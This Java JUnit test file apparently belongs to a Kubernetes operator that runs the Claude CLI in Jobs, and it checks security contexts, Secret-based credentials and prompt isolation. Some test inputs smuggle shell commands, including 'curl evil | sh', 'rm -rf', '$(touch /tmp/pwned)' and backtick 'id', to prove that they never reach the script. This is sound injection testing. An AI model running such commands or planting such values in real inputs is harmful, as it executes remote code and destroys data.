package dev.sessionops.claude.message;

import dev.sessionops.claude.api.runner.JobNames;

import dev.sessionops.claude.api.runner.PodLayout;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;

import dev.sessionops.claude.api.runner.Labels;
import dev.sessionops.claude.api.v1alpha1.GitWorkspace;
import dev.sessionops.claude.api.v1alpha1.KeyRef;
import dev.sessionops.claude.api.v1alpha1.NameRef;
import dev.sessionops.claude.api.v1alpha1.VolumeClaimWorkspace;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.EnvVarBuilder;
import io.fabric8.kubernetes.api.model.OwnerReference;
import io.fabric8.kubernetes.api.model.PodSecurityContext;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceRequirementsBuilder;
import io.fabric8.kubernetes.api.model.SecretKeySelector;
import io.fabric8.kubernetes.api.model.SecurityContext;
import io.fabric8.kubernetes.api.model.Toleration;
import io.fabric8.kubernetes.api.model.TolerationBuilder;
import io.fabric8.kubernetes.api.model.Volume;
import io.fabric8.kubernetes.api.model.VolumeMount;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.utils.Serialization;

class JobSpecBuilderTest {
    private static final List<String> COMMAND = List.of("claude", "-p", "--output-format=stream-json", "--verbose",
            "--append-system-prompt=Mind $(x) and $HOME");
    private static final String PROMPT = "Create a REST API; rm -rf / $(ANTHROPIC_API_KEY) `id` \"--help\"";
    private static final Pattern CREDENTIAL_LIKE = Pattern.compile("(?i).*(KEY|TOKEN|PASSWORD|SECRET|CREDENTIAL).*");

    private static JobPlan.Builder plan() {
        return JobPlan.builder()
                .owner(new JobPlan.Owner("claude.sessionops.dev/v1alpha1", "ClaudeMessage", "user-api-01", "uid-1"))
                .namespace("team-a")
                .messageName("user-api-01")
                .sessionName("user-api")
                .jobName("user-api-01-abcdef0123")
                .image("ghcr.io/example/claude-runner:2.1.330")
                .command(COMMAND)
                .prompt(PROMPT)
                .env(List.of(plain("ANTHROPIC_BASE_URL", "http://fake:8080"), plain("TZ", "UTC")))
                .credentials(new JobPlan.CredentialsRef("anthropic", List.of("ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN")))
                .stateClaimName("user-api-state-0123456789");
    }

    private static EnvVar plain(String name, String value) {
        return new EnvVarBuilder().withName(name).withValue(value).build();
    }

    private static GitWorkspace git(String repository, String branch, String baseRef, String secret) {
        GitWorkspace git = new GitWorkspace();
        git.setRepository(repository);
        git.setBranch(branch);
        git.setBaseRef(baseRef);
        git.setCredentialsSecretRef(secret == null ? null : new NameRef(secret));
        return git;
    }

    private static VolumeClaimWorkspace claim(String name, String subPath) {
        VolumeClaimWorkspace claim = new VolumeClaimWorkspace();
        claim.setClaimName(name);
        claim.setSubPath(subPath);
        return claim;
    }

    private static PodSpec pod(Job job) {
        return job.getSpec().getTemplate().getSpec();
    }

    private static Container claude(Job job) {
        List<Container> containers = pod(job).getContainers();
        assertEquals(1, containers.size());
        assertEquals(PodLayout.CONTAINER, containers.get(0).getName());
        return containers.get(0);
    }

    private static Container gitInit(Job job) {
        List<Container> init = pod(job).getInitContainers();
        assertEquals(1, init.size());
        assertEquals(PodLayout.GIT_INIT_CONTAINER, init.get(0).getName());
        return init.get(0);
    }

    private static Stream<Container> allContainers(Job job) {
        return Stream.concat(pod(job).getInitContainers().stream(), pod(job).getContainers().stream());
    }

    private static EnvVar env(Container c, String name) {
        List<EnvVar> found = c.getEnv().stream().filter(e -> e.getName().equals(name)).toList();
        assertTrue(found.size() <= 1, "duplicate env " + name + " in " + c.getName());
        return found.isEmpty() ? null : found.get(0);
    }

    private static VolumeMount mountAt(Container c, String path) {
        return c.getVolumeMounts().stream().filter(m -> m.getMountPath().equals(path)).findFirst()
                .orElseThrow(() -> new AssertionError("no mount at " + path + " in " + c.getName()));
    }

    private static Volume volume(Job job, String name) {
        return pod(job).getVolumes().stream().filter(v -> v.getName().equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no volume " + name));
    }

    @Test
    void jobRunsOnceOwnedByTheMessage() {
        Job job = JobSpecBuilder.build(plan().activeDeadlineSeconds(1800L).ttlSecondsAfterFinished(3600).build());

        assertEquals("batch/v1", job.getApiVersion());
        assertEquals("Job", job.getKind());
        assertEquals("user-api-01-abcdef0123", job.getMetadata().getName());
        assertEquals("team-a", job.getMetadata().getNamespace());
        OwnerReference owner = job.getMetadata().getOwnerReferences().get(0);
        assertEquals(1, job.getMetadata().getOwnerReferences().size());
        assertEquals("claude.sessionops.dev/v1alpha1", owner.getApiVersion());
        assertEquals("ClaudeMessage", owner.getKind());
        assertEquals("user-api-01", owner.getName());
        assertEquals("uid-1", owner.getUid());
        assertEquals(true, owner.getController());
        assertEquals(true, owner.getBlockOwnerDeletion());

        assertEquals(0, job.getSpec().getBackoffLimit());
        assertEquals(1800L, job.getSpec().getActiveDeadlineSeconds());
        assertEquals(3600, job.getSpec().getTtlSecondsAfterFinished());
        assertEquals("Never", pod(job).getRestartPolicy());
        assertEquals(false, pod(job).getAutomountServiceAccountToken());
        assertNull(pod(job).getServiceAccountName());
    }

    @Test
    void optionalDeadlinesAreLeftOut() {
        Job job = JobSpecBuilder.build(plan().build());
        assertNull(job.getSpec().getActiveDeadlineSeconds());
        assertNull(job.getSpec().getTtlSecondsAfterFinished());
    }

    @Test
    void labelsOnJobAndPodTemplate() {
        Map<String, String> expected = Map.of(
                Labels.NAME, "claude-session-operator",
                Labels.COMPONENT, "claude-run",
                Labels.MANAGED_BY, "claude-session-operator",
                Labels.SESSION, "user-api",
                Labels.MESSAGE, "user-api-01");
        Job job = JobSpecBuilder.build(plan().build());
        assertEquals(expected, job.getMetadata().getLabels());
        assertEquals(expected, job.getSpec().getTemplate().getMetadata().getLabels());
    }

    @Test
    void oneShotMessageHasNoSessionLabel() {
        Job job = JobSpecBuilder.build(plan().sessionName(null).build());
        assertFalse(job.getMetadata().getLabels().containsKey(Labels.SESSION));
        assertEquals("user-api-01", job.getSpec().getTemplate().getMetadata().getLabels().get(Labels.MESSAGE));
    }

    @Test
    void longNamesBecomeValidLabelValues() {
        String longName = "m".repeat(200);
        Job job = JobSpecBuilder.build(plan().messageName(longName).sessionName("s".repeat(253)).build());
        job.getMetadata().getLabels().values().forEach(v -> assertTrue(v.length() <= 63, v));
        assertEquals(JobNames.labelValue(longName), job.getMetadata().getLabels().get(Labels.MESSAGE));
    }

    @Test
    void userPodLabelsAndAnnotationsGoOnThePodTemplateOursWin() {
        Job job = JobSpecBuilder.build(plan()
                .podLabels(Map.of("team", "a", Labels.MANAGED_BY, "someone-else", Labels.MESSAGE, "spoofed"))
                .podAnnotations(Map.of("sidecar.istio.io/inject", "false"))
                .build());
        Map<String, String> podLabels = job.getSpec().getTemplate().getMetadata().getLabels();
        assertEquals("a", podLabels.get("team"));
        assertEquals("claude-session-operator", podLabels.get(Labels.MANAGED_BY));
        assertEquals("user-api-01", podLabels.get(Labels.MESSAGE));
        assertFalse(job.getMetadata().getLabels().containsKey("team"), "user labels stay off the Job");
        assertEquals(Map.of("sidecar.istio.io/inject", "false"),
                job.getSpec().getTemplate().getMetadata().getAnnotations());
    }

    @Test
    void schedulingSettingsArePassedThrough() {
        Toleration toleration = new TolerationBuilder().withKey("dedicated").withOperator("Equal").withValue("ai")
                .withEffect("NoSchedule").build();
        Job job = JobSpecBuilder.build(plan()
                .serviceAccountName("claude-runner")
                .nodeSelector(Map.of("pool", "ai"))
                .tolerations(List.of(toleration))
                .resources(new ResourceRequirementsBuilder().addToLimits("memory", new Quantity("1Gi"))
                        .addToRequests("cpu", new Quantity("500m")).build())
                .build());
        assertEquals("claude-runner", pod(job).getServiceAccountName());
        assertEquals(false, pod(job).getAutomountServiceAccountToken(), "still no token with a named account");
        assertEquals(Map.of("pool", "ai"), pod(job).getNodeSelector());
        assertEquals(List.of(toleration), pod(job).getTolerations());
        assertEquals(new Quantity("1Gi"), claude(job).getResources().getLimits().get("memory"));
        assertEquals(new Quantity("500m"), claude(job).getResources().getRequests().get("cpu"));
    }

    @Test
    void podAndEveryContainerAreRestricted() {
        Job job = JobSpecBuilder.build(plan().git(git("https://git.example.com/a.git", "b", "main", "git-creds"))
                .mcpConfig(new KeyRef("mcp", "servers.json")).build());

        PodSecurityContext podSecurity = pod(job).getSecurityContext();
        assertEquals(true, podSecurity.getRunAsNonRoot());
        assertEquals(PodLayout.RUN_AS_USER, podSecurity.getRunAsUser());
        assertEquals(PodLayout.RUN_AS_USER, podSecurity.getRunAsGroup());
        assertEquals(PodLayout.RUN_AS_USER, podSecurity.getFsGroup());
        assertEquals("OnRootMismatch", podSecurity.getFsGroupChangePolicy());
        assertEquals("RuntimeDefault", podSecurity.getSeccompProfile().getType());

        List<Container> containers = allContainers(job).toList();
        assertEquals(2, containers.size());
        for (Container c : containers) {
            SecurityContext sc = c.getSecurityContext();
            assertNotNull(sc, c.getName());
            assertEquals(false, sc.getAllowPrivilegeEscalation(), c.getName());
            assertEquals(List.of("ALL"), sc.getCapabilities().getDrop(), c.getName());
            assertTrue(sc.getCapabilities().getAdd() == null || sc.getCapabilities().getAdd().isEmpty());
            assertEquals(true, sc.getRunAsNonRoot(), c.getName());
            assertEquals("RuntimeDefault", sc.getSeccompProfile().getType(), c.getName());
            assertNull(sc.getPrivileged(), c.getName());
            assertNull(sc.getRunAsUser(), "the pod's non-root user applies: " + c.getName());
        }
    }

    @Test
    void claudeContainerRunsTheExecArrayInTheWorkspace() {
        Job job = JobSpecBuilder.build(plan().build());
        Container claude = claude(job);
        assertEquals("ghcr.io/example/claude-runner:2.1.330", claude.getImage());
        assertEquals(COMMAND, JobSpecBuilder.commandAsRun(job));
        assertTrue(claude.getCommand().contains("--append-system-prompt=Mind $$(x) and $$HOME"),
                "every $ doubled, so the kubelet's $(VAR) expansion leaves the values as written");
        assertEquals(PodLayout.PROMPT_FILE, claude.getCommand().get(4), "the shell's input file");
        assertTrue(claude.getArgs() == null || claude.getArgs().isEmpty(), "no shell, no extra args");
        assertEquals("/workspace", claude.getWorkingDir());
        assertTrue(pod(job).getInitContainers().isEmpty(), "no git-init without a git workspace");
    }

    @Test
    void claudeEnvHasUserEnvCredentialsAndFixedPaths() {
        Container claude = claude(JobSpecBuilder.build(plan().build()));
        assertEquals("http://fake:8080", env(claude, "ANTHROPIC_BASE_URL").getValue());
        assertEquals("UTC", env(claude, "TZ").getValue());
        assertEquals(PodLayout.CONFIG_DIR, env(claude, "CLAUDE_CONFIG_DIR").getValue());
        assertEquals(PodLayout.HOME, env(claude, "HOME").getValue());
        assertEquals("1", env(claude, "DISABLE_AUTOUPDATER").getValue());
        for (String key : List.of("ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN")) {
            EnvVar e = env(claude, key);
            assertNull(e.getValue(), key);
            SecretKeySelector ref = e.getValueFrom().getSecretKeyRef();
            assertEquals("anthropic", ref.getName());
            assertEquals(key, ref.getKey());
            assertNull(ref.getOptional(), "the reconciler only lists keys the Secret has");
        }
    }

    @Test
    void onlyTheCredentialKeysTheSecretHasAreReferenced() {
        Container claude = claude(JobSpecBuilder.build(plan()
                .credentials(new JobPlan.CredentialsRef("oauth", List.of("CLAUDE_CODE_OAUTH_TOKEN"))).build()));
        assertNull(env(claude, "ANTHROPIC_API_KEY"));
        assertEquals("oauth", env(claude, "CLAUDE_CODE_OAUTH_TOKEN").getValueFrom().getSecretKeyRef().getName());

        Container none = claude(JobSpecBuilder.build(plan().credentials(null).build()));
        assertNull(env(none, "ANTHROPIC_API_KEY"));
        assertNull(env(none, "CLAUDE_CODE_OAUTH_TOKEN"));
    }

    @Test
    void noCredentialLikeVariableHasAPlainValue() {
        List<EnvVar> userEnv = List.of(plain("TZ", "UTC"), new EnvVarBuilder().withName("ANTHROPIC_AUTH_TOKEN")
                .withNewValueFrom().withNewSecretKeyRef("token", "gateway", null).endValueFrom().build());
        Job job = JobSpecBuilder.build(plan().env(userEnv)
                .git(git("https://git.example.com/a.git", "main", null, "git-creds")).build());
        List<EnvVar> all = allContainers(job).flatMap(c -> c.getEnv().stream()).toList();
        assertTrue(all.stream().anyMatch(e -> e.getName().equals("GIT_PASSWORD")), "fixture covers git secrets");
        for (EnvVar e : all) {
            if (CREDENTIAL_LIKE.matcher(e.getName()).matches()) {
                assertNull(e.getValue(), e.getName() + " has a plain value");
                assertNotNull(e.getValueFrom().getSecretKeyRef(), e.getName() + " is not from a Secret");
            }
        }
    }

    @Test
    void plainCredentialValuesAreRefused() {
        for (String name : List.of("ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN", "ANTHROPIC_AUTH_TOKEN")) {
            JobPlan.Builder builder = plan().env(List.of(plain(name, "sk-ant-secret")));
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class, builder::build);
            assertTrue(e.getMessage().contains(name));
        }
    }

    @Test
    void userEnvCannotMoveTheConfigDirOrHome() {
        List<EnvVar> userEnv = List.of(plain("HOME", "/root"), plain("CLAUDE_CONFIG_DIR", "/tmp/elsewhere"),
                plain("DISABLE_AUTOUPDATER", "0"), plain("KEEP", "me"));
        Container claude = claude(JobSpecBuilder.build(plan().env(userEnv).build()));
        assertEquals(PodLayout.HOME, env(claude, "HOME").getValue());
        assertEquals(PodLayout.CONFIG_DIR, env(claude, "CLAUDE_CONFIG_DIR").getValue());
        assertEquals("1", env(claude, "DISABLE_AUTOUPDATER").getValue());
        assertEquals("me", env(claude, "KEEP").getValue());
    }

    @Test
    void defaultWorkspaceIsASubPathOfTheStateVolume() {
        Job job = JobSpecBuilder.build(plan().build());
        Container claude = claude(job);
        assertEquals(3, claude.getVolumeMounts().size(), "state, workspace and the prompt");
        VolumeMount state = mountAt(claude, PodLayout.STATE_MOUNT);
        assertEquals("state", state.getName());
        assertNull(state.getSubPath());
        VolumeMount workspace = mountAt(claude, "/workspace");
        assertEquals("state", workspace.getName());
        assertEquals(PodLayout.WORKSPACE_SUBPATH, workspace.getSubPath());
        assertEquals(2, pod(job).getVolumes().size());
        assertEquals("user-api-state-0123456789", volume(job, "state").getPersistentVolumeClaim().getClaimName());
    }

    @Test
    void volumeClaimWorkspaceMountsTheUsersClaim() {
        Job job = JobSpecBuilder.build(plan().volumeClaim(claim("shared-src", "repos/api")).build());
        Container claude = claude(job);
        VolumeMount workspace = mountAt(claude, "/workspace");
        assertEquals("workspace", workspace.getName());
        assertEquals("repos/api", workspace.getSubPath());
        assertEquals("shared-src", volume(job, "workspace").getPersistentVolumeClaim().getClaimName());
        assertEquals("state", mountAt(claude, PodLayout.STATE_MOUNT).getName(), "the CLI state stays on the state volume");
        assertTrue(pod(job).getInitContainers().isEmpty());

        Job whole = JobSpecBuilder.build(plan().volumeClaim(claim("shared-src", null)).build());
        assertNull(mountAt(claude(whole), "/workspace").getSubPath());
    }

    /**
     * The prompt is in no argument, no env and nowhere else in the Job: only in the ConfigMap the Job names by the
     * prompt's hash, mounted read-only at the fixed path whose file the container's shell makes the CLI's stdin.
     */
    @Test
    void thePromptComesFromItsConfigMapMountedReadOnlyAndNowhereElseInTheJob() {
        JobPlan plan = plan().build();
        Job job = JobSpecBuilder.build(plan);
        assertFalse(Serialization.asJson(job).contains("Create a REST API"), Serialization.asJson(job));
        Volume prompt = volume(job, "prompt");
        assertEquals(PromptConfigMap.name(plan.jobName(), PROMPT), prompt.getConfigMap().getName());
        assertEquals(Optional.of(prompt.getConfigMap().getName()), JobSpecBuilder.promptConfigMapName(job));
        assertEquals(1, prompt.getConfigMap().getItems().size());
        assertEquals(PromptConfigMap.KEY, prompt.getConfigMap().getItems().get(0).getKey());
        assertNull(prompt.getConfigMap().getOptional(), "a missing prompt keeps the pod from starting");
        VolumeMount mount = mountAt(claude(job), PodLayout.PROMPT_DIR);
        assertEquals("prompt", mount.getName());
        assertEquals(true, mount.getReadOnly());
        assertEquals(PodLayout.PROMPT_FILE, mount.getMountPath() + "/" + prompt.getConfigMap().getItems().get(0).getPath());
        assertEquals(Optional.empty(), JobSpecBuilder.promptConfigMapName(new io.fabric8.kubernetes.api.model.batch.v1.JobBuilder()
                .withNewSpec().withNewTemplate().withNewSpec().endSpec().endTemplate().endSpec().build()));
    }

    @Test
    void mcpConfigIsMountedReadOnlyAtTheFixedPath() {
        Job job = JobSpecBuilder.build(plan().mcpConfig(new KeyRef("mcp-servers", "servers.json")).build());
        Volume mcp = volume(job, "mcp-config");
        assertEquals("mcp-servers", mcp.getConfigMap().getName());
        assertEquals(1, mcp.getConfigMap().getItems().size());
        assertEquals("servers.json", mcp.getConfigMap().getItems().get(0).getKey());
        VolumeMount mount = mountAt(claude(job), PodLayout.MCP_CONFIG_DIR);
        assertEquals("mcp-config", mount.getName());
        assertEquals(true, mount.getReadOnly());
        assertEquals(PodLayout.MCP_CONFIG, mount.getMountPath() + "/" + mcp.getConfigMap().getItems().get(0).getPath());

        assertTrue(JobSpecBuilder.build(plan().build()).getSpec().getTemplate().getSpec().getVolumes().stream()
                .noneMatch(v -> v.getName().equals("mcp-config")));
    }

    @Test
    void gitWorkspaceAddsAnInitContainerWithTheSameMountsAndSecurity() {
        Job job = JobSpecBuilder.build(plan()
                .git(git("https://git.example.com/acme/api.git", "feature/validation", "main", "git-creds"))
                .mcpConfig(new KeyRef("mcp", "k"))
                .build());
        Container init = gitInit(job);
        Container claude = claude(job);
        assertEquals(claude.getImage(), init.getImage());
        assertEquals(List.of("/bin/sh", "-c", GitInit.SCRIPT.replace("$", "$$")), init.getCommand());
        assertEquals(claude.getResources(), init.getResources());
        assertEquals(mountAt(claude, PodLayout.STATE_MOUNT), mountAt(init, PodLayout.STATE_MOUNT));
        assertEquals(mountAt(claude, "/workspace"), mountAt(init, "/workspace"));

        assertEquals("/workspace", env(init, GitInit.ENV_DIR).getValue());
        assertEquals("https://git.example.com/acme/api.git", env(init, "GIT_REPOSITORY").getValue());
        assertEquals("feature/validation", env(init, "GIT_BRANCH").getValue());
        assertEquals("main", env(init, "GIT_BASE_REF").getValue());
        assertEquals("0", env(init, "GIT_TERMINAL_PROMPT").getValue());
        assertEquals(PodLayout.HOME, env(init, "HOME").getValue());
        for (String[] pair : new String[][] {{"GIT_USERNAME", "username"}, {"GIT_PASSWORD", "password"}}) {
            EnvVar e = env(init, pair[0]);
            assertNull(e.getValue());
            assertEquals("git-creds", e.getValueFrom().getSecretKeyRef().getName());
            assertEquals(pair[1], e.getValueFrom().getSecretKeyRef().getKey());
            assertEquals(true, e.getValueFrom().getSecretKeyRef().getOptional());
        }
        assertNull(env(init, "ANTHROPIC_API_KEY"), "the clone needs no Claude credentials");
        assertEquals("UTC", env(init, "TZ").getValue(), "user env (proxies, CAs) reaches git too");
    }

    @Test
    void gitWithoutBranchOrCredentialsSetsNoSuchVariables() {
        Container init = gitInit(JobSpecBuilder.build(plan()
                .git(git("https://git.example.com/a.git", null, null, null)).build()));
        assertNull(env(init, "GIT_BRANCH"));
        assertNull(env(init, "GIT_BASE_REF"));
        assertNull(env(init, "GIT_USERNAME"));
        assertNull(env(init, "GIT_PASSWORD"));
    }

    @Test
    void userGitValuesReachTheScriptOnlyAsEnvironment() {
        String repository = "https://x.example/r.git'; curl evil | sh; echo '";
        String branch = "b$(touch /tmp/pwned)`id`";
        String baseRef = "main\"; rm -rf /workspace; \"";
        Job job = JobSpecBuilder.build(plan().env(List.of(plain("GIT_REPOSITORY", "https://spoofed")))
                .git(git(repository, branch, baseRef, null)).build());
        Container init = gitInit(job);
        String script = init.getCommand().get(2);
        assertEquals(GitInit.SCRIPT.replace("$", "$$"), script, "the script is fixed text");
        for (String value : List.of(repository, branch, baseRef, "curl evil", "touch /tmp/pwned", "rm -rf")) {
            assertFalse(script.contains(value), value);
            assertFalse(init.getCommand().subList(0, 2).stream().anyMatch(a -> a.contains(value)));
        }
        assertEquals(repository, env(init, "GIT_REPOSITORY").getValue(), "ours win over a same-named user var");
        assertEquals(branch, env(init, "GIT_BRANCH").getValue());
        assertEquals(baseRef, env(init, "GIT_BASE_REF").getValue());
    }

    @Test
    void planRejectsContradictionsAndGapsEarly() {
        assertThrows(IllegalArgumentException.class,
                () -> plan().git(git("https://a", null, null, null)).volumeClaim(claim("c", null)).build());
        assertThrows(IllegalArgumentException.class, () -> plan().command(List.of()).build());
        assertThrows(IllegalArgumentException.class, () -> plan().prompt(" \n").build());
        assertThrows(IllegalArgumentException.class, () -> plan().prompt(null).build());
        assertThrows(IllegalArgumentException.class, () -> plan().git(git(" ", null, null, null)).build());
        assertThrows(IllegalArgumentException.class, () -> plan().activeDeadlineSeconds(0L).build());
        assertThrows(NullPointerException.class, () -> plan().image(null).build());
        assertThrows(IllegalArgumentException.class,
                () -> new JobPlan.CredentialsRef("s", List.of("AWS_SECRET_ACCESS_KEY")));
    }

    @Test
    void positionalConstructorMatchesTheBuilder() {
        GitWorkspace git = git("https://a/b.git", "x", null, null);
        JobPlan built = plan().git(git).activeDeadlineSeconds(60L).ttlSecondsAfterFinished(3600).build();
        JobPlan positional = new JobPlan("claude.sessionops.dev/v1alpha1", "ClaudeMessage", "user-api-01", "uid-1",
                "team-a", "user-api", "user-api-01-abcdef0123", "ghcr.io/example/claude-runner:2.1.330", COMMAND,
                PROMPT, built.env(), "anthropic", List.of("ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN"),
                "user-api-state-0123456789", git, null, null, null, 60L, 3600, null, null, null, null, null);
        assertEquals(built, positional);
        assertNull(new JobPlan("v", "K", "m", "u", "ns", null, "j", "img", COMMAND, "p", null, null, null, "c", null, null,
                null, null, null, null, null, null, null, null, null).credentials());
    }

    @Test
    void planCopiesItsInputs() {
        List<String> command = new ArrayList<>(COMMAND);
        JobPlan p = plan().command(command).build();
        command.add("--extra");
        assertEquals(COMMAND, p.command());
        assertEquals(COMMAND, JobSpecBuilder.commandAsRun(JobSpecBuilder.build(p)));
    }

    @Test
    void jobSerializesToYaml() {
        Job job = JobSpecBuilder.build(plan().git(git("https://a/b.git", "x", null, null)).build());
        String yaml = Serialization.asYaml(job);
        assertTrue(yaml.contains("backoffLimit: 0"), yaml);
        assertEquals(Serialization.asJson(job), Serialization.asJson(Serialization.unmarshal(yaml, Job.class)));
    }

    /**
     * With the credential gateway the claude container reaches the model API only through it: its URL and the run's
     * token, and none of a session's own credentials or base URL (env or Secret) that would go around it.
     */
    @Test
    void throughTheGatewayTheRunHasItsTokenAndNoKey() {
        List<EnvVar> sessionEnv = List.of(plain("ANTHROPIC_BASE_URL", "http://elsewhere"), plain("TZ", "UTC"),
                new EnvVarBuilder().withName("CLAUDE_CODE_OAUTH_TOKEN").withNewValueFrom()
                        .withNewSecretKeyRef("CLAUDE_CODE_OAUTH_TOKEN", "mine", null).endValueFrom().build());
        JobPlan plan = plan().env(sessionEnv).credentials(null).build();
        var access = new dev.sessionops.claude.gateway.RunAccess("http://gw.cso-system.svc:8088/m/team-a/user-api-01",
                "cso-gw1.payload.mac");
        Job job = JobSpecBuilder.forRun(new RunPlanner.PlannedRun(plan, dev.sessionops.claude.cli.RunOptions.builder("hi").build(),
                access), null);
        Container claude = job.getSpec().getTemplate().getSpec().getContainers().get(0);
        Map<String, EnvVar> env = new java.util.LinkedHashMap<>();
        claude.getEnv().forEach(e -> env.put(e.getName(), e));
        assertEquals("http://gw.cso-system.svc:8088/m/team-a/user-api-01", env.get("ANTHROPIC_BASE_URL").getValue());
        assertEquals("cso-gw1.payload.mac", env.get("ANTHROPIC_API_KEY").getValue());
        assertFalse(env.containsKey("CLAUDE_CODE_OAUTH_TOKEN"), "a session's own credential would go around the gateway");
        assertEquals("UTC", env.get("TZ").getValue());
        assertTrue(claude.getEnv().stream().noneMatch(e -> e.getValueFrom() != null), "no Secret in the pod");
        assertEquals(1, claude.getEnv().stream().filter(e -> e.getName().equals("ANTHROPIC_BASE_URL")).count());
        assertFalse(access.toString().contains("cso-gw1"), "the token is never printed");
    }
}
